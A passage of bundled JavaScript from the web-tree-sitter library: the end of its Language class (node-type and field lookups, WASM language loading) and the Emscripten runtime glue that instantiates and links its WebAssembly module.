   */
  get stateCount() {
    return C._ts_language_state_count(this[0]);
  }
  /**
   * Get the field id for a field name.
   */
  fieldIdForName(fieldName) {
    const result2 = this.fields.indexOf(fieldName);
    return result2 !== -1 ? result2 : null;
  }
  /**
   * Get the field name for a field id.
   */
  fieldNameForId(fieldId) {
    return this.fields[fieldId] ?? null;
  }
  /**
   * Get the node type id for a node type name.
   */
  idForNodeType(type, named) {
    const typeLength = C.lengthBytesUTF8(type);
    const typeAddress = C._malloc(typeLength + 1);
    C.stringToUTF8(type, typeAddress, typeLength + 1);
    const result2 = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named ? 1 : 0);
    C._free(typeAddress);
    return result2 || null;
  }
  /**
   * Gets the number of node types in the language.
   */
  get nodeTypeCount() {
    return C._ts_language_symbol_count(this[0]);
  }
  /**
   * Get the node type name for a node type id.
   */
  nodeTypeForId(typeId) {
    const name2 = C._ts_language_symbol_name(this[0], typeId);
    return name2 ? C.UTF8ToString(name2) : null;
  }
  /**
   * Check if a node type is named.
   *
   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/2-basic-parsing.html#named-vs-anonymous-nodes}
   */
  nodeTypeIsNamed(typeId) {
    return C._ts_language_type_is_named_wasm(this[0], typeId) ? true : false;
  }
  /**
   * Check if a node type is visible.
   */
  nodeTypeIsVisible(typeId) {
    return C._ts_language_type_is_visible_wasm(this[0], typeId) ? true : false;
  }
  /**
   * Get the supertypes ids of this language.
   *
   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/6-static-node-types.html?highlight=supertype#supertype-nodes}
   */
  get supertypes() {
    C._ts_language_supertypes_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = C.getValue(address, "i16");
        address += SIZE_OF_SHORT;
      }
    }
    return result2;
  }
  /**
   * Get the subtype ids for a given supertype node id.
   */
  subtypes(supertype) {
    C._ts_language_subtypes_wasm(this[0], supertype);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = C.getValue(address, "i16");
        address += SIZE_OF_SHORT;
      }
    }
    return result2;
  }
  /**
   * Get the next state id for a given state id and node type id.
   */
  nextState(stateId, typeId) {
    return C._ts_language_next_state(this[0], stateId, typeId);
  }
  /**
   * Create a new lookahead iterator for this language and parse state.
   *
   * This returns `null` if state is invalid for this language.
   *
   * Iterating {@link LookaheadIterator} will yield valid symbols in the given
   * parse state. Newly created lookahead iterators will return the `ERROR`
   * symbol from {@link LookaheadIterator#currentType}.
   *
   * Lookahead iterators can be useful for generating suggestions and improving
   * syntax error diagnostics. To get symbols valid in an `ERROR` node, use the
   * lookahead iterator on its first leaf node state. For `MISSING` nodes, a
   * lookahead iterator created on the previous non-extra leaf node may be
   * appropriate.
   */
  lookaheadIterator(stateId) {
    const address = C._ts_lookahead_iterator_new(this[0], stateId);
    if (address) return new LookaheadIterator(INTERNAL, address, this);
    return null;
  }
  /**
   * @deprecated since version 0.25.0, call `new` on a {@link Query} instead
   *
   * Create a new query from a string containing one or more S-expression
   * patterns.
   *
   * The query is associated with a particular language, and can only be run
   * on syntax nodes parsed with that language. References to Queries can be
   * shared between multiple threads.
   *
   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
   */
  query(source) {
    console.warn("Language.query is deprecated. Use new Query(language, source) instead.");
    return new Query(this, source);
  }
  /**
   * Load a language from a WebAssembly module.
   * The module can be provided as a path to a file or as a buffer.
   */
  static async load(input) {
    let bytes;
    if (input instanceof Uint8Array) {
      bytes = Promise.resolve(input);
    } else {
      if (globalThis.process?.versions.node) {
        const fs2 = await import("fs/promises");
        bytes = fs2.readFile(input);
      } else {
        bytes = fetch(input).then((response) => response.arrayBuffer().then((buffer) => {
          if (response.ok) {
            return new Uint8Array(buffer);
          } else {
            const body2 = new TextDecoder("utf-8").decode(buffer);
            throw new Error(`Language.load failed with status ${response.status}.

${body2}`);
          }
        }));
      }
    }
    const mod = await C.loadWebAssemblyModule(await bytes, { loadAsync: true });
    const symbolNames = Object.keys(mod);
    const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
    if (!functionName) {
      console.log(`Couldn't find language function in WASM file. Symbols:
${JSON.stringify(symbolNames, null, 2)}`);
      throw new Error("Language.load failed: no language function found in WASM file");
    }
    const languageAddress = mod[functionName]();
    return new _Language(INTERNAL, languageAddress);
  }
};
var Module2 = (() => {
  var _scriptName = import.meta.url;
  return async function(moduleArg = {}) {
    var moduleRtn;
    var Module = moduleArg;
    var readyPromiseResolve, readyPromiseReject;
    var readyPromise = new Promise((resolve9, reject) => {
      readyPromiseResolve = resolve9;
      readyPromiseReject = reject;
    });
    var ENVIRONMENT_IS_WEB = typeof window == "object";
    var ENVIRONMENT_IS_WORKER = typeof WorkerGlobalScope != "undefined";
    var ENVIRONMENT_IS_NODE = typeof process == "object" && typeof process.versions == "object" && typeof process.versions.node == "string" && process.type != "renderer";
    var ENVIRONMENT_IS_SHELL = !ENVIRONMENT_IS_WEB && !ENVIRONMENT_IS_NODE && !ENVIRONMENT_IS_WORKER;
    if (ENVIRONMENT_IS_NODE) {
      const { createRequire: createRequire2 } = await import("module");
      var require = createRequire2(import.meta.url);
    }
    Module.currentQueryProgressCallback = null;
    Module.currentProgressCallback = null;
    Module.currentLogCallback = null;
    Module.currentParseCallback = null;
    var moduleOverrides = Object.assign({}, Module);
    var arguments_ = [];
    var thisProgram = "./this.program";
    var quit_ = /* @__PURE__ */ __name((status, toThrow) => {
      throw toThrow;
    }, "quit_");
    var scriptDirectory = "";
    function locateFile(path) {
      if (Module["locateFile"]) {
        return Module["locateFile"](path, scriptDirectory);
      }
      return scriptDirectory + path;
    }
    __name(locateFile, "locateFile");
    var readAsync, readBinary;
    if (ENVIRONMENT_IS_NODE) {
      var fs = require("fs");
      var nodePath = require("path");
      if (!import.meta.url.startsWith("data:")) {
        scriptDirectory = nodePath.dirname(require("url").fileURLToPath(import.meta.url)) + "/";
      }
      readBinary = /* @__PURE__ */ __name((filename) => {
        filename = isFileURI(filename) ? new URL(filename) : filename;
        var ret = fs.readFileSync(filename);
        return ret;
      }, "readBinary");
      readAsync = /* @__PURE__ */ __name(async (filename, binary2 = true) => {
        filename = isFileURI(filename) ? new URL(filename) : filename;
        var ret = fs.readFileSync(filename, binary2 ? void 0 : "utf8");
        return ret;
      }, "readAsync");
      if (!Module["thisProgram"] && process.argv.length > 1) {
        thisProgram = process.argv[1].replace(/\\/g, "/");
      }
      arguments_ = process.argv.slice(2);
      quit_ = /* @__PURE__ */ __name((status, toThrow) => {
        process.exitCode = status;
        throw toThrow;
      }, "quit_");
    } else if (ENVIRONMENT_IS_WEB || ENVIRONMENT_IS_WORKER) {
      if (ENVIRONMENT_IS_WORKER) {
        scriptDirectory = self.location.href;
      } else if (typeof document != "undefined" && document.currentScript) {
        scriptDirectory = document.currentScript.src;
      }
      if (_scriptName) {
        scriptDirectory = _scriptName;
      }
      if (scriptDirectory.startsWith("blob:")) {
        scriptDirectory = "";
      } else {
        scriptDirectory = scriptDirectory.slice(0, scriptDirectory.replace(/[?#].*/, "").lastIndexOf("/") + 1);
      }
      {
        if (ENVIRONMENT_IS_WORKER) {
          readBinary = /* @__PURE__ */ __name((url) => {
            var xhr = new XMLHttpRequest();
            xhr.open("GET", url, false);
            xhr.responseType = "arraybuffer";
            xhr.send(null);
            return new Uint8Array(
              /** @type{!ArrayBuffer} */
              xhr.response
            );
          }, "readBinary");
        }
        readAsync = /* @__PURE__ */ __name(async (url) => {
          if (isFileURI(url)) {
            return new Promise((resolve9, reject) => {
              var xhr = new XMLHttpRequest();
              xhr.open("GET", url, true);
              xhr.responseType = "arraybuffer";
              xhr.onload = () => {
                if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
                  resolve9(xhr.response);
                  return;
                }
                reject(xhr.status);
              };
              xhr.onerror = reject;
              xhr.send(null);
            });
          }
          var response = await fetch(url, {
            credentials: "same-origin"
          });
          if (response.ok) {
            return response.arrayBuffer();
          }
          throw new Error(response.status + " : " + response.url);
        }, "readAsync");
      }
    } else {
    }
    var out = Module["print"] || console.log.bind(console);
    var err = Module["printErr"] || console.error.bind(console);
    Object.assign(Module, moduleOverrides);
    moduleOverrides = null;
    if (Module["arguments"]) arguments_ = Module["arguments"];
    if (Module["thisProgram"]) thisProgram = Module["thisProgram"];
    var dynamicLibraries = Module["dynamicLibraries"] || [];
    var wasmBinary = Module["wasmBinary"];
    var wasmMemory;
    var ABORT = false;
    var EXITSTATUS;
    function assert(condition, text) {
      if (!condition) {
        abort(text);
      }
    }
    __name(assert, "assert");
    var HEAP, HEAP8, HEAPU8, HEAP16, HEAPU16, HEAP32, HEAPU32, HEAPF32, HEAP64, HEAPU64, HEAPF64;
    var HEAP_DATA_VIEW;
    var runtimeInitialized = false;
    var isFileURI = /* @__PURE__ */ __name((filename) => filename.startsWith("file://"), "isFileURI");
    function updateMemoryViews() {
      var b = wasmMemory.buffer;
      Module["HEAP_DATA_VIEW"] = HEAP_DATA_VIEW = new DataView(b);
      Module["HEAP8"] = HEAP8 = new Int8Array(b);
      Module["HEAP16"] = HEAP16 = new Int16Array(b);
      Module["HEAPU8"] = HEAPU8 = new Uint8Array(b);
      Module["HEAPU16"] = HEAPU16 = new Uint16Array(b);
      Module["HEAP32"] = HEAP32 = new Int32Array(b);
      Module["HEAPU32"] = HEAPU32 = new Uint32Array(b);
      Module["HEAPF32"] = HEAPF32 = new Float32Array(b);
      Module["HEAPF64"] = HEAPF64 = new Float64Array(b);
      Module["HEAP64"] = HEAP64 = new BigInt64Array(b);
      Module["HEAPU64"] = HEAPU64 = new BigUint64Array(b);
    }
    __name(updateMemoryViews, "updateMemoryViews");
    if (Module["wasmMemory"]) {
      wasmMemory = Module["wasmMemory"];
    } else {
      var INITIAL_MEMORY = Module["INITIAL_MEMORY"] || 33554432;
      wasmMemory = new WebAssembly.Memory({
        "initial": INITIAL_MEMORY / 65536,
        // In theory we should not need to emit the maximum if we want "unlimited"
        // or 4GB of memory, but VMs error on that atm, see
        // https://github.com/emscripten-core/emscripten/issues/14130
        // And in the pthreads case we definitely need to emit a maximum. So
        // always emit one.
        "maximum": 32768
      });
    }
    updateMemoryViews();
    var __RELOC_FUNCS__ = [];
    function preRun() {
      if (Module["preRun"]) {
        if (typeof Module["preRun"] == "function") Module["preRun"] = [Module["preRun"]];
        while (Module["preRun"].length) {
          addOnPreRun(Module["preRun"].shift());
        }
      }
      callRuntimeCallbacks(onPreRuns);
    }
    __name(preRun, "preRun");
    function initRuntime() {
      runtimeInitialized = true;
      callRuntimeCallbacks(__RELOC_FUNCS__);
      wasmExports["__wasm_call_ctors"]();
      callRuntimeCallbacks(onPostCtors);
    }
    __name(initRuntime, "initRuntime");
    function preMain() {
    }
    __name(preMain, "preMain");
    function postRun() {
      if (Module["postRun"]) {
        if (typeof Module["postRun"] == "function") Module["postRun"] = [Module["postRun"]];
        while (Module["postRun"].length) {
          addOnPostRun(Module["postRun"].shift());
        }
      }
      callRuntimeCallbacks(onPostRuns);
    }
    __name(postRun, "postRun");
    var runDependencies = 0;
    var dependenciesFulfilled = null;
    function getUniqueRunDependency(id) {
      return id;
    }
    __name(getUniqueRunDependency, "getUniqueRunDependency");
    function addRunDependency(id) {
      runDependencies++;
      Module["monitorRunDependencies"]?.(runDependencies);
    }
    __name(addRunDependency, "addRunDependency");
    function removeRunDependency(id) {
      runDependencies--;
      Module["monitorRunDependencies"]?.(runDependencies);
      if (runDependencies == 0) {
        if (dependenciesFulfilled) {
          var callback = dependenciesFulfilled;
          dependenciesFulfilled = null;
          callback();
        }
      }
    }
    __name(removeRunDependency, "removeRunDependency");
    function abort(what) {
      Module["onAbort"]?.(what);
      what = "Aborted(" + what + ")";
      err(what);
      ABORT = true;
      what += ". Build with -sASSERTIONS for more info.";
      var e = new WebAssembly.RuntimeError(what);
      readyPromiseReject(e);
      throw e;
    }
    __name(abort, "abort");
    var wasmBinaryFile;
    function findWasmBinary() {
      if (Module["locateFile"]) {
        return locateFile("tree-sitter.wasm");
      }
      return new URL("tree-sitter.wasm", import.meta.url).href;
    }
    __name(findWasmBinary, "findWasmBinary");
    function getBinarySync(file) {
      if (file == wasmBinaryFile && wasmBinary) {
        return new Uint8Array(wasmBinary);
      }
      if (readBinary) {
        return readBinary(file);
      }
      throw "both async and sync fetching of the wasm failed";
    }
    __name(getBinarySync, "getBinarySync");
    async function getWasmBinary(binaryFile) {
      if (!wasmBinary) {
        try {
          var response = await readAsync(binaryFile);
          return new Uint8Array(response);
        } catch {
        }
      }
      return getBinarySync(binaryFile);
    }
    __name(getWasmBinary, "getWasmBinary");
    async function instantiateArrayBuffer(binaryFile, imports) {
      try {
        var binary2 = await getWasmBinary(binaryFile);
        var instance2 = await WebAssembly.instantiate(binary2, imports);
        return instance2;
      } catch (reason2) {
        err(`failed to asynchronously prepare wasm: ${reason2}`);
        abort(reason2);
      }
    }
    __name(instantiateArrayBuffer, "instantiateArrayBuffer");
    async function instantiateAsync(binary2, binaryFile, imports) {
      if (!binary2 && typeof WebAssembly.instantiateStreaming == "function" && !isFileURI(binaryFile) && !ENVIRONMENT_IS_NODE) {
        try {
          var response = fetch(binaryFile, {
            credentials: "same-origin"
          });
          var instantiationResult = await WebAssembly.instantiateStreaming(response, imports);
          return instantiationResult;
        } catch (reason2) {
          err(`wasm streaming compile failed: ${reason2}`);
          err("falling back to ArrayBuffer instantiation");
        }
      }
      return instantiateArrayBuffer(binaryFile, imports);
    }
    __name(instantiateAsync, "instantiateAsync");
    function getWasmImports() {
      return {
        "env": wasmImports,
        "wasi_snapshot_preview1": wasmImports,
        "GOT.mem": new Proxy(wasmImports, GOTHandler),
        "GOT.func": new Proxy(wasmImports, GOTHandler)
      };
    }
    __name(getWasmImports, "getWasmImports");
    async function createWasm() {
      function receiveInstance(instance2, module2) {
        wasmExports = instance2.exports;
        wasmExports = relocateExports(wasmExports, 1024);
        var metadata2 = getDylinkMetadata(module2);
        if (metadata2.neededDynlibs) {
          dynamicLibraries = metadata2.neededDynlibs.concat(dynamicLibraries);
        }
        mergeLibSymbols(wasmExports, "main");
        LDSO.init();
        loadDylibs();
        __RELOC_FUNCS__.push(wasmExports["__wasm_apply_data_relocs"]);
        removeRunDependency("wasm-instantiate");
        return wasmExports;
      }
      __name(receiveInstance, "receiveInstance");
      addRunDependency("wasm-instantiate");
      function receiveInstantiationResult(result22) {
        return receiveInstance(result22["instance"], result22["module"]);
      }
      __name(receiveInstantiationResult, "receiveInstantiationResult");
      var info2 = getWasmImports();
      if (Module["instantiateWasm"]) {
        return new Promise((resolve9, reject) => {
          Module["instantiateWasm"](info2, (mod, inst) => {
            receiveInstance(mod, inst);
            resolve9(mod.exports);
          });
        });
      }
      wasmBinaryFile ??= findWasmBinary();
      try {
        var result2 = await instantiateAsync(wasmBinary, wasmBinaryFile, info2);
        var exports = receiveInstantiationResult(result2);
        return exports;
      } catch (e) {
        readyPromiseReject(e);
        return Promise.reject(e);
      }
    }
    __name(createWasm, "createWasm");
    var ASM_CONSTS = {};
    class ExitStatus {
      static {
        __name(this, "ExitStatus");
      }
      name = "ExitStatus";
      constructor(status) {
        this.message = `Program terminated with exit(${status})`;
        this.status = status;
      }
    }
    var GOT = {};
    var currentModuleWeakSymbols = /* @__PURE__ */ new Set([]);
    var GOTHandler = {
      get(obj, symName) {
        var rtn = GOT[symName];
        if (!rtn) {
          rtn = GOT[symName] = new WebAssembly.Global({
            "value": "i32",
            "mutable": true
          });
        }
        if (!currentModuleWeakSymbols.has(symName)) {
          rtn.required = true;
        }
        return rtn;
      }
    };
    var LE_HEAP_LOAD_F32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat32(byteOffset, true), "LE_HEAP_LOAD_F32");
    var LE_HEAP_LOAD_F64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat64(byteOffset, true), "LE_HEAP_LOAD_F64");
    var LE_HEAP_LOAD_I16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt16(byteOffset, true), "LE_HEAP_LOAD_I16");
    var LE_HEAP_LOAD_I32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt32(byteOffset, true), "LE_HEAP_LOAD_I32");
    var LE_HEAP_LOAD_U16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint16(byteOffset, true), "LE_HEAP_LOAD_U16");
    var LE_HEAP_LOAD_U32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint32(byteOffset, true), "LE_HEAP_LOAD_U32");
    var LE_HEAP_STORE_F32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat32(byteOffset, value, true), "LE_HEAP_STORE_F32");
    var LE_HEAP_STORE_F64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat64(byteOffset, value, true), "LE_HEAP_STORE_F64");
    var LE_HEAP_STORE_I16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt16(byteOffset, value, true), "LE_HEAP_STORE_I16");
    var LE_HEAP_STORE_I32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt32(byteOffset, value, true), "LE_HEAP_STORE_I32");
    var LE_HEAP_STORE_U16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint16(byteOffset, value, true), "LE_HEAP_STORE_U16");
    var LE_HEAP_STORE_U32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint32(byteOffset, value, true), "LE_HEAP_STORE_U32");
    var callRuntimeCallbacks = /* @__PURE__ */ __name((callbacks) => {
      while (callbacks.length > 0) {
        callbacks.shift()(Module);
      }
    }, "callRuntimeCallbacks");
    var onPostRuns = [];
    var addOnPostRun = /* @__PURE__ */ __name((cb) => onPostRuns.unshift(cb), "addOnPostRun");
    var onPreRuns = [];
    var addOnPreRun = /* @__PURE__ */ __name((cb) => onPreRuns.unshift(cb), "addOnPreRun");
    var UTF8Decoder = typeof TextDecoder != "undefined" ? new TextDecoder() : void 0;
    var UTF8ArrayToString = /* @__PURE__ */ __name((heapOrArray, idx = 0, maxBytesToRead = NaN) => {
      var endIdx = idx + maxBytesToRead;
      var endPtr = idx;
      while (heapOrArray[endPtr] && !(endPtr >= endIdx)) ++endPtr;
      if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
        return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
      }
      var str = "";
      while (idx < endPtr) {
        var u0 = heapOrArray[idx++];
        if (!(u0 & 128)) {
          str += String.fromCharCode(u0);
          continue;
        }
        var u1 = heapOrArray[idx++] & 63;
        if ((u0 & 224) == 192) {
          str += String.fromCharCode((u0 & 31) << 6 | u1);
          continue;
        }
        var u2 = heapOrArray[idx++] & 63;
        if ((u0 & 240) == 224) {
          u0 = (u0 & 15) << 12 | u1 << 6 | u2;
        } else {
          u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
        }
        if (u0 < 65536) {
          str += String.fromCharCode(u0);
        } else {
          var ch = u0 - 65536;
          str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
        }
      }
      return str;
    }, "UTF8ArrayToString");
    var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
      var offset = 0;
      var end = 0;
      function getU8() {
        return binary2[offset++];
      }
      __name(getU8, "getU8");
      function getLEB() {
        var ret = 0;
        var mul = 1;
        while (1) {
          var byte = binary2[offset++];
          ret += (byte & 127) * mul;
          mul *= 128;
          if (!(byte & 128)) break;
        }
        return ret;
      }
      __name(getLEB, "getLEB");
      function getString() {
        var len = getLEB();
        offset += len;
        return UTF8ArrayToString(binary2, offset - len, len);
      }
      __name(getString, "getString");
      function failIf(condition, message15) {
        if (condition) throw new Error(message15);
      }
      __name(failIf, "failIf");
      var name2 = "dylink.0";
      if (binary2 instanceof WebAssembly.Module) {
        var dylinkSection = WebAssembly.Module.customSections(binary2, name2);
        if (dylinkSection.length === 0) {
          name2 = "dylink";
          dylinkSection = WebAssembly.Module.customSections(binary2, name2);
        }
        failIf(dylinkSection.length === 0, "need dylink section");
        binary2 = new Uint8Array(dylinkSection[0]);
        end = binary2.length;
      } else {
        var int32View = new Uint32Array(new Uint8Array(binary2.subarray(0, 24)).buffer);
        var magicNumberFound = int32View[0] == 1836278016 || int32View[0] == 6386541;
        failIf(!magicNumberFound, "need to see wasm magic number");
        failIf(binary2[8] !== 0, "need the dylink section to be first");
        offset = 9;
        var section_size = getLEB();
        end = offset + section_size;
        name2 = getString();
      }
      var customSection = {
        neededDynlibs: [],
        tlsExports: /* @__PURE__ */ new Set(),
        weakImports: /* @__PURE__ */ new Set()
      };
      if (name2 == "dylink") {
        customSection.memorySize = getLEB();
        customSection.memoryAlign = getLEB();
        customSection.tableSize = getLEB();
        customSection.tableAlign = getLEB();
        var neededDynlibsCount = getLEB();
        for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
          var libname = getString();
          customSection.neededDynlibs.push(libname);
        }
      } else {
        failIf(name2 !== "dylink.0");
        var WASM_DYLINK_MEM_INFO = 1;
        var WASM_DYLINK_NEEDED = 2;
        var WASM_DYLINK_EXPORT_INFO = 3;
        var WASM_DYLINK_IMPORT_INFO = 4;
        var WASM_SYMBOL_TLS = 256;
        var WASM_SYMBOL_BINDING_MASK = 3;
        var WASM_SYMBOL_BINDING_WEAK = 1;
        while (offset < end) {
          var subsectionType = getU8();
          var subsectionSize = getLEB();
          if (subsectionType === WASM_DYLINK_MEM_INFO) {
            customSection.memorySize = getLEB();
            customSection.memoryAlign = getLEB();
            customSection.tableSize = getLEB();
            customSection.tableAlign = getLEB();
          } else if (subsectionType === WASM_DYLINK_NEEDED) {
            var neededDynlibsCount = getLEB();
            for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
              libname = getString();
              customSection.neededDynlibs.push(libname);
            }
          } else if (subsectionType === WASM_DYLINK_EXPORT_INFO) {
            var count = getLEB();
            while (count--) {
              var symname = getString();
              var flags2 = getLEB();
              if (flags2 & WASM_SYMBOL_TLS) {
                customSection.tlsExports.add(symname);
              }
            }
          } else if (subsectionType === WASM_DYLINK_IMPORT_INFO) {
            var count = getLEB();
            while (count--) {
              var modname = getString();
              var symname = getString();
              var flags2 = getLEB();
              if ((flags2 & WASM_SYMBOL_BINDING_MASK) == WASM_SYMBOL_BINDING_WEAK) {
                customSection.weakImports.add(symname);
              }
            }
          } else {
            offset += subsectionSize;
          }
        }
      }
      return customSection;
    }, "getDylinkMetadata");
    function getValue(ptr, type = "i8") {
      if (type.endsWith("*")) type = "*";
      switch (type) {
        case "i1":
          return HEAP8[ptr];
        case "i8":
          return HEAP8[ptr];
        case "i16":
          return LE_HEAP_LOAD_I16((ptr >> 1) * 2);
        case "i32":
          return LE_HEAP_LOAD_I32((ptr >> 2) * 4);
        case "i64":
          return HEAP64[ptr >> 3];
        case "float":
          return LE_HEAP_LOAD_F32((ptr >> 2) * 4);
        case "double":
          return LE_HEAP_LOAD_F64((ptr >> 3) * 8);
        case "*":
          return LE_HEAP_LOAD_U32((ptr >> 2) * 4);
        default:
          abort(`invalid type for getValue: ${type}`);
      }
    }
    __name(getValue, "getValue");
    var newDSO = /* @__PURE__ */ __name((name2, handle2, syms) => {
      var dso = {
        refcount: Infinity,
        name: name2,
        exports: syms,
        global: true
      };
      LDSO.loadedLibsByName[name2] = dso;
      if (handle2 != void 0) {
        LDSO.loadedLibsByHandle[handle2] = dso;
      }
      return dso;
    }, "newDSO");
    var LDSO = {
      loadedLibsByName: {},
      loadedLibsByHandle: {},
      init() {
        newDSO("__main__", 0, wasmImports);
      }
    };
    var ___heap_base = 78224;
    var alignMemory = /* @__PURE__ */ __name((size, alignment) => Math.ceil(size / alignment) * alignment, "alignMemory");
    var getMemory = /* @__PURE__ */ __name((size) => {
      if (runtimeInitialized) {
        return _calloc(size, 1);
      }
      var ret = ___heap_base;
      var end = ret + alignMemory(size, 16);
      ___heap_base = end;
      GOT["__heap_base"].value = end;
      return ret;
    }, "getMemory");
    var isInternalSym = /* @__PURE__ */ __name((symName) => ["__cpp_exception", "__c_longjmp", "__wasm_apply_data_relocs", "__dso_handle", "__tls_size", "__tls_align", "__set_stack_limits", "_emscripten_tls_init", "__wasm_init_tls", "__wasm_call_ctors", "__start_em_asm", "__stop_em_asm", "__start_em_js", "__stop_em_js"].includes(symName) || symName.startsWith("__em_js__"), "isInternalSym");
    var uleb128Encode = /* @__PURE__ */ __name((n, target) => {
      if (n < 128) {
        target.push(n);
      } else {
        target.push(n % 128 | 128, n >> 7);
      }
    }, "uleb128Encode");
    var sigToWasmTypes = /* @__PURE__ */ __name((sig) => {
      var typeNames = {
        "i": "i32",
        "j": "i64",
        "f": "f32",
        "d": "f64",
        "e": "externref",
        "p": "i32"
      };
      var type = {
        parameters: [],
        results: sig[0] == "v" ? [] : [typeNames[sig[0]]]
      };
      for (var i2 = 1; i2 < sig.length; ++i2) {
        type.parameters.push(typeNames[sig[i2]]);
      }
      return type;
    }, "sigToWasmTypes");
    var generateFuncType = /* @__PURE__ */ __name((sig, target) => {
      var sigRet = sig.slice(0, 1);
      var sigParam = sig.slice(1);
      var typeCodes = {
        "i": 127,
        // i32
        "p": 127,
        // i32
        "j": 126,
        // i64
        "f": 125,
        // f32
        "d": 124,
        // f64
        "e": 111
      };
      target.push(96);
      uleb128Encode(sigParam.length, target);
      for (var i2 = 0; i2 < sigParam.length; ++i2) {
        target.push(typeCodes[sigParam[i2]]);
      }
      if (sigRet == "v") {
        target.push(0);
      } else {
        target.push(1, typeCodes[sigRet]);
      }
    }, "generateFuncType");
    var convertJsFunctionToWasm = /* @__PURE__ */ __name((func2, sig) => {
      if (typeof WebAssembly.Function == "function") {
        return new WebAssembly.Function(sigToWasmTypes(sig), func2);
      }
      var typeSectionBody = [1];
      generateFuncType(sig, typeSectionBody);
      var bytes = [
        0,
        97,
        115,
        109,
        // magic ("\0asm")
        1,
        0,
        0,
        0,
        // version: 1
        1
      ];
      uleb128Encode(typeSectionBody.length, bytes);
      bytes.push(...typeSectionBody);
      bytes.push(
        2,
        7,
        // import section
        // (import "e" "f" (func 0 (type 0)))
        1,
        1,
        101,
        1,
        102,
        0,
        0,
        7,
        5,
        // export section
        // (export "f" (func 0 (type 0)))
        1,
        1,
        102,
        0,
        0
      );
      var module2 = new WebAssembly.Module(new Uint8Array(bytes));
      var instance2 = new WebAssembly.Instance(module2, {
        "e": {
          "f": func2
        }
      });
      var wrappedFunc = instance2.exports["f"];
      return wrappedFunc;
    }, "convertJsFunctionToWasm");
    var wasmTableMirror = [];
    var wasmTable = new WebAssembly.Table({
      "initial": 31,
      "element": "anyfunc"
    });
    var getWasmTableEntry = /* @__PURE__ */ __name((funcPtr) => {
      var func2 = wasmTableMirror[funcPtr];
      if (!func2) {
        if (funcPtr >= wasmTableMirror.length) wasmTableMirror.length = funcPtr + 1;
        wasmTableMirror[funcPtr] = func2 = wasmTable.get(funcPtr);
      }
      return func2;
    }, "getWasmTableEntry");
    var updateTableMap = /* @__PURE__ */ __name((offset, count) => {
      if (functionsInTableMap) {
        for (var i2 = offset; i2 < offset + count; i2++) {
          var item = getWasmTableEntry(i2);
          if (item) {
            functionsInTableMap.set(item, i2);
          }
        }
      }
    }, "updateTableMap");
    var functionsInTableMap;
    var getFunctionAddress = /* @__PURE__ */ __name((func2) => {
      if (!functionsInTableMap) {
        functionsInTableMap = /* @__PURE__ */ new WeakMap();
        updateTableMap(0, wasmTable.length);
      }
      return functionsInTableMap.get(func2) || 0;
    }, "getFunctionAddress");
    var freeTableIndexes = [];
    var getEmptyTableSlot = /* @__PURE__ */ __name(() => {
      if (freeTableIndexes.length) {
        return freeTableIndexes.pop();
      }
      try {
        wasmTable.grow(1);
      } catch (err2) {
        if (!(err2 instanceof RangeError)) {
          throw err2;
        }
        throw "Unable to grow wasm table. Set ALLOW_TABLE_GROWTH.";
      }
      return wasmTable.length - 1;
    }, "getEmptyTableSlot");
    var setWasmTableEntry = /* @__PURE__ */ __name((idx, func2) => {
      wasmTable.set(idx, func2);
      wasmTableMirror[idx] = wasmTable.get(idx);
    }, "setWasmTableEntry");
    var addFunction = /* @__PURE__ */ __name((func2, sig) => {
      var rtn = getFunctionAddress(func2);
      if (rtn) {
        return rtn;
      }
      var ret = getEmptyTableSlot();
      try {
        setWasmTableEntry(ret, func2);
      } catch (err2) {
        if (!(err2 instanceof TypeError)) {
          throw err2;
        }
        var wrapped = convertJsFunctionToWasm(func2, sig);
        setWasmTableEntry(ret, wrapped);
      }
      functionsInTableMap.set(func2, ret);
      return ret;
    }, "addFunction");
    var updateGOT = /* @__PURE__ */ __name((exports, replace) => {
      for (var symName in exports) {
        if (isInternalSym(symName)) {
          continue;
        }
        var value = exports[symName];
        GOT[symName] ||= new WebAssembly.Global({
          "value": "i32",
          "mutable": true
        });
        if (replace || GOT[symName].value == 0) {
          if (typeof value == "function") {
            GOT[symName].value = addFunction(value);
          } else if (typeof value == "number") {
            GOT[symName].value = value;
          } else {
            err(`unhandled export type for '${symName}': ${typeof value}`);
          }
        }
      }
    }, "updateGOT");
